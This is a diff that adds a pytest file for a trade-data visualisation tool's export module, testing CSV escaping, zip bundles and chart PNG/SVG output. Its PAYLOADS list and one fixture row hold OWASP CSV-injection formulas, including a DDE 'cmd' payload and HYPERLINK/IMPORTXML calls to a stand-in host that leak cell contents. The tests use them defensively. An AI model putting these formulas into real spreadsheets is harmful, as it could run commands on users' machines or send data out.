@@ -1,0 +1,104 @@
+import io
+import xml.etree.ElementTree as ET
+import zipfile
+
+import altair as alt
+import pandas as pd
+import pytest
+
+from tradeviz import export
+
+# OWASP "CSV Injection" payloads plus full-width variants that some spreadsheets also accept.
+PAYLOADS = [
+    "=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
+    '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
+    "-2+3+cmd|' /C calc'!A0", "＝1+2", "＋1", "－1", "＠SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_neutralise_owasp_payloads(payload):
+    assert export.neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("text", ["Azərbaycan", "1,086", "", "2025 Jan–Jul", "a=b"])
+def test_neutralise_leaves_plain_text(text):
+    assert export.neutralise(text) == text
+
+
+def test_to_csv_whole_file():
+    frame = pd.DataFrame({
+        "record_id": ["f01", "f02"],
+        "value": [-76.0, 53.3],
+        "rank": [4, 1],
+        "period_start": pd.to_datetime(["2025-01-01", None]),
+        "publisher": ["Azərbaycan Gömrük Komitəsi", None],
+        "title": ['=HYPERLINK("http://evil.example")', 'He said "-5%", then left'],
+        "actors": [["Ilham Aliyev", "Xi Jinping"], []],
+    })
+    expected = (
+        "record_id,value,rank,period_start,publisher,title,actors\r\n"
+        'f01,-76,4,2025-01-01,Azərbaycan Gömrük Komitəsi,"\'=HYPERLINK(""http://evil.example"")",Ilham Aliyev; Xi Jinping\r\n'
+        'f02,53.3,1,,,"He said ""-5%"", then left",\r\n'
+    )
+    assert export.to_csv(frame).decode("utf-8") == expected
+
+
+def test_to_csv_says_when_truncated():
+    text = export.to_csv(pd.DataFrame({"a": [1]}), truncated_at=1).decode()
+    assert text == "a\r\n1\r\n# truncated: only the first 1 rows are included\r\n"
+
+
+def test_with_labels_places_label_after_code():
+    frame = pd.DataFrame({"record_id": ["x"], "flow": ["exports"], "reporter": ["cn_official"], "value": [1.0]})
+    assert list(export.with_labels(frame).columns) == ["record_id", "flow", "flow_label", "reporter", "reporter_label", "value"]
+    assert export.with_labels(frame).loc[0, "flow_label"] == "Azerbaijan's exports to China"
+
+
+def test_file_name():
+    assert export.file_name("Trade", "turnover, 2019–2025") == "tradeviz-trade-turnover-2019-2025.csv"
+    assert export.file_name("timeline", "") == "tradeviz-timeline-all.csv"
+
+
+def test_filtered_zip_has_csv_and_readme():
+    payload = export.filtered_zip(b"a\r\n1\r\n", "x.csv", "exports, 2019–2025", "http://h/trade?flow=exports", "abc")
+    archive = zipfile.ZipFile(io.BytesIO(payload))
+    assert archive.namelist() == ["x.csv", "README.md"]
+    readme = archive.read("README.md").decode()
+    assert "- Permalink: http://h/trade?flow=exports" in readme and "- Data version: abc" in readme
+    assert archive.read("x.csv") == b"a\r\n1\r\n"
+    # Same inputs, same bytes.
+    assert payload == export.filtered_zip(b"a\r\n1\r\n", "x.csv", "exports, 2019–2025", "http://h/trade?flow=exports", "abc")
+
+
+def test_dataset_zip(fixture_dataset, fixture_data):
+    archive = zipfile.ZipFile(io.BytesIO(export.dataset_zip(fixture_dataset.tables, fixture_data, fixture_dataset.version)))
+    names = archive.namelist()
+    assert "csv/trade.csv" in names and "parquet/trade.parquet" in names and "README.md" in names
+    readme = archive.read("README.md").decode()
+    assert f"version {fixture_dataset.version}" in readme
+    assert "| qualifier | string | one of exact, about, more_than, less_than |" in readme
+    trade_csv = archive.read("csv/trade.csv").decode()
+    assert trade_csv.splitlines()[0].startswith("record_id,reporter,reporter_label,")
+
+
+@pytest.fixture(scope="module")
+def small_chart():
+    frame = pd.DataFrame({"year": [2020, 2021], "value": [100.0, 120.0]})
+    return alt.Chart(frame).mark_line().encode(x="year:Q", y="value:Q").properties(title="Turnover")
+
+
+def test_image_spec_adds_source_line(small_chart):
+    spec = export.image_spec(small_chart, "Source: fixture")
+    assert spec["title"] == {"text": "Turnover", "subtitle": ["Source: fixture"]}
+    assert spec["width"] == 1000
+
+
+def test_png_and_svg_are_valid(small_chart):
+    spec = export.image_spec(small_chart, "Source: fixture")
+    png = export.chart_png(spec)
+    assert png[:8] == b"\x89PNG\r\n\x1a\n"
+    svg = export.chart_svg(spec)
+    root = ET.fromstring(svg)
+    assert root.tag.endswith("svg")
+    assert "Source: fixture" in svg
